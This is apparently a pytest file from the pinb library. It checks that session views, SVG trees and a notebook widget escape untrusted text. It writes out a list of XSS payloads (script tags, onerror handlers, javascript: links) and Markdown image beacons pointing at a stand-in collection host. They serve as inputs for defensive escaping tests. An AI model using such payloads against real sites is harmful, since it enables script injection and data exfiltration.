"""Session text is untrusted: a session full of XSS payloads goes through every view and widget."""

from __future__ import annotations

import io
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from pinb.core import Session
from pinb.core.compaction.reports import CompactionReport
from pinb.render.figure import draw_tree
from pinb.views import (
    CompactionView,
    ContextBreakdown,
    ContextPathView,
    EntryView,
    SessionListView,
    TreeView,
    session_mimebundle,
)
from pinb.views.tree_widget import SessionExplorer
from tests.views.builders import demo_session
from tests.views.sanitizers import check_html_survives

PAYLOADS = [
    "<script>window.__pinb_xss=1</script>",
    "<img src=x onerror=window.__pinb_xss=2>",
    '"><svg onload=window.__pinb_xss=3>',
    "'><iframe src=javascript:window.__pinb_xss=4></iframe>",
    "</title><script>window.__pinb_xss=5</script><title>",
    "</style></pre></textarea><b onmouseover=window.__pinb_xss=6>",
    "[click](javascript:window.__pinb_xss=7) [x](JaVaScRiPt:alert(1))",
    '<a href="javascript:window.__pinb_xss=8">link</a>',
    "<style>*{display:none}</style><link rel=stylesheet href=//x>",
    "]]><!-- --><![CDATA[ x ]]> &amp; &lt;b&gt; $\\frac{1}{0}$ {{7*7}}",
    "\x00\x1b[31m\x7f control",
    # Pictures the browser would fetch (exfiltrating what the URL carries): inline and
    # reference-style, in Markdown that the views render (summaries, replies).
    "![x](http://203.0.113.7/collect?d=inline) [![y](http://203.0.113.7/n.png)](http://h/)",
    "![x][r]\n\n[r]: http://203.0.113.7/collect?d=reference\n\n",
]
TEXT = " ".join(PAYLOADS)
#: What every payload must still read as, once the browser has unescaped it.
VISIBLE = ["window.__pinb_xss=2", "</title><script>", "<b onmouseover="]

ALLOWED_TAGS = {
    "div",
    "span",
    "style",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "pre",
    "code",
    "h3",
    "h4",
    "h5",
    "h6",
    "p",
    "br",
    "ul",
    "ol",
    "li",
    "strong",
    "em",
    "b",
    "a",
    "details",
    "summary",
    "svg",
    "path",
    "circle",
    "rect",
    "text",
    "title",
    "line",
    "g",
}
ALLOWED_ATTRS = {
    "class",
    "style",
    "href",
    "rel",
    "target",
    "title",
    "xmlns",
    "width",
    "height",
    "viewbox",
    "font-family",
    "font-size",
    "d",
    "stroke",
    "stroke-width",
    "stroke-dasharray",
    "fill",
    "fill-opacity",
    "cx",
    "cy",
    "r",
    "x",
    "y",
    "x1",
    "x2",
    "y1",
    "y2",
    "rx",
    "text-anchor",
    "data-id",
    "data-chain",
    "data-column",
    "paint-order",
    "font-weight",
    "font-style",
    "data-ready",
    "data-pinb-entry",
}
STYLES: set[str] = set()  # the views write no style sheet at all


class SafetyChecker(HTMLParser):
    """Fails on any tag, attribute, URL or style sheet that pinb itself does not write."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED_TAGS, f"unexpected <{tag}>"
        self._in_style = tag == "style"
        for name, value in attrs:
            assert name in ALLOWED_ATTRS, f"unexpected attribute {name}={value!r} on <{tag}>"
            value = value or ""
            if name == "href":  # or a session file's URI, pinb's scheme and a %-quoted path
                assert value.startswith(("http://", "https://", "mailto:")) or re.fullmatch(
                    r"file:///[A-Za-z0-9_%/.~:-]*", value
                ), value
            if name == "style":
                assert not any(bad in value.lower() for bad in ("url(", "expression", "script"))

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            assert data in STYLES, "a style sheet that pinb did not write"
        else:
            self.text.append(data)


def check_html(html: str) -> str:
    """Parse ``html`` as a browser would and return its visible text (asserting safety)."""
    checker = SafetyChecker()
    checker.feed(html)
    checker.close()
    return "".join(checker.text)


def check_svg(svg: str) -> str:
    root = ET.fromstring(svg)  # well-formed XML whatever the text was
    for element in root.iter():
        tag = element.tag.rsplit("}", 1)[-1]
        assert tag in ALLOWED_TAGS, tag
        assert not any(name.lower().startswith("on") for name in element.attrib)
    check_html(svg)
    return " ".join(t for t in root.itertext())


def odd_file(folder: Path) -> Path:
    """A hand-written file whose ids, types, roles and names are payloads too."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "odd.jsonl"
    ts = "2025-01-01T00:00:00.000Z"
    lines: list[dict[str, Any]] = [
        {"type": "session", "version": 3, "id": "s1", "timestamp": ts, "cwd": PAYLOADS[1]},
        {
            "type": "message",
            "id": PAYLOADS[2],
            "parentId": None,
            "timestamp": ts,
            "message": {"role": "user", "content": PAYLOADS[0], "timestamp": 1},
        },
        {"type": PAYLOADS[4], "id": PAYLOADS[1], "parentId": PAYLOADS[2], "timestamp": ts},
        {
            "type": "message",
            "id": PAYLOADS[3],
            "parentId": PAYLOADS[1],
            "timestamp": ts,
            "message": {"role": PAYLOADS[5], "content": TEXT, "timestamp": 2},
        },
        {
            "type": "label",
            "id": "l1",
            "parentId": PAYLOADS[3],
            "timestamp": ts,
            "targetId": PAYLOADS[2],
            "label": TEXT,
        },
        {
            "type": "compaction",
            "id": "<c>",
            "parentId": "l1",
            "timestamp": ts,
            "summary": TEXT,
            "firstKeptEntryId": PAYLOADS[3],
            "tokensBefore": 5,
            "details": {"readFiles": PAYLOADS, "modifiedFiles": [TEXT]},
        },
        {
            "type": "custom_message",
            "customType": TEXT,
            "content": TEXT,
            "display": True,
            "id": "cm",
            "parentId": "<c>",
            "timestamp": ts,
        },
    ]
    path.write_text("\n".join(json.dumps(line) for line in lines) + "\n", encoding="utf-8")
    return path


@pytest.fixture(params=["demo", "odd"])
def hostile(request: pytest.FixtureRequest, tmp_path: Path) -> Session:
    if request.param == "demo":
        return demo_session(tmp_path / "demo", text=TEXT, cwd=f"/w/{PAYLOADS[1]}").session
    return Session.open(odd_file(tmp_path / "odd"))


def test_every_view_escapes_everything(hostile: Session) -> None:
    s = hostile
    htmls: list[str] = []
    tree = TreeView(s, collapse=False)
    svg_text = check_svg(tree.to_svg())
    htmls.append(tree.to_html())
    htmls.append(ContextPathView(s).to_html())
    htmls.append(ContextBreakdown(s).to_html())
    htmls += [CompactionView(e, s).to_html() for e in s.entries if e.type == "compaction"]
    htmls += [EntryView(e, s).to_html() for e in s.entries]
    htmls.append(session_mimebundle(s)["text/html"])
    visible = ""
    for html in htmls:
        visible += check_html(html)
        check_html_survives(html)  # and every sanitizer leaves it readable
    # The payloads were shown as text, not dropped and not double-escaped.
    for fragment in VISIBLE:
        assert fragment in visible
    # The summaries' Markdown ran through the one policy: the pictures are links to click.
    summaries = "".join(CompactionView(e, s).to_html() for e in s.entries if e.type == "compaction")
    assert '<a href="http://203.0.113.7/collect?d=reference" rel="noopener' in summaries
    assert ">image: x</a>" in summaries and "<img" not in "".join(htmls)
    assert "window.__pinb_xss" in svg_text
    draw_tree(s).savefig(io.BytesIO(), format="png")  # `$` in labels is no mathtext error


def test_reports_and_lists_escape_everything() -> None:
    report = CompactionReport(
        entry=None,
        summary=TEXT,
        first_kept_entry_id=PAYLOADS[2],
        tokens_before=10,
        before_by_role={PAYLOADS[1]: 10},
        after_by_role={PAYLOADS[0]: 5},
        summarized_ids=PAYLOADS,
        kept_ids=[PAYLOADS[4]],
        read_files=PAYLOADS,
        modified_files=[TEXT],
        summarizer=PAYLOADS[3],
        reason=PAYLOADS[5],
    )
    visible = check_html(CompactionView(report).to_html())
    assert all(fragment in visible for fragment in VISIBLE)
    rows = [
        {
            "path": p,
            "id": p,
            "cwd": p,
            "name": p,
            "parent_session_path": p,
            "created": p,
            "modified": p,
            "message_count": 1,
            "first_message": p,
        }
        for p in PAYLOADS
    ]
    view = SessionListView(
        rows,
        columns=list(
            (
                "modified",
                "name",
                "first_message",
                "message_count",
                "created",
                "cwd",
                "id",
                "path",
                "parent_session_path",
            )
        ),
    )
    assert "window.__pinb_xss=2" in check_html(view.to_html())


def test_widget_escapes_everything(hostile: Session, comms: list[Any]) -> None:
    def navigate(session: Session, target: str, summarize: bool) -> Any:
        raise RuntimeError(TEXT)

    explorer = SessionExplorer(hostile, navigate=navigate, fork=navigate)  # type: ignore[arg-type]
    for entry in hostile.entries:
        if entry.is_navigation or str(entry.id) not in hostile:
            continue
        explorer.tab = "details"
        explorer.select(str(entry.id))
        explorer.tab = "context_html"
        explorer.tab = "compaction_html"
        for html in (explorer.details, explorer.context_html, explorer.compaction_html):
            check_html(html)
    explorer.continue_here()
    assert "window.__pinb_xss" in explorer.status  # shown as text (set with textContent)
    explorer.fork()
    explorer.search("<script>")
    # Rows are plain values: the ES module writes every one with textContent.
    for row in explorer.rows:
        for value in row.values():
            assert isinstance(value, str | int | float | bool | list | type(None))
    js = (
        Path(__import__("pinb.views.tree_widget").views.tree_widget.__file__).parent
        / "tree_widget.js"
    ).read_text()
    assert js.count("innerHTML") == 1  # only the panels, whose HTML the views escaped
    svg_text = check_svg(explorer.to_svg())
    assert "window.__pinb_xss" in svg_text
    explorer.close()


@pytest.mark.parametrize(
    "unsafe",
    [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        '<a href="javascript:alert(1)">x</a>',
        '<div style="background:url(javascript:x)">',
        "<style>body{}</style>",
        '<svg onload="x">',
    ],
)
def test_the_checker_catches_unescaped_markup(unsafe: str) -> None:
    with pytest.raises(AssertionError):
        check_html(f"<div>{unsafe}</div>")
    with pytest.raises((AssertionError, ET.ParseError)):
        check_svg(f'<svg xmlns="http://www.w3.org/2000/svg"><title>{unsafe}</title></svg>')
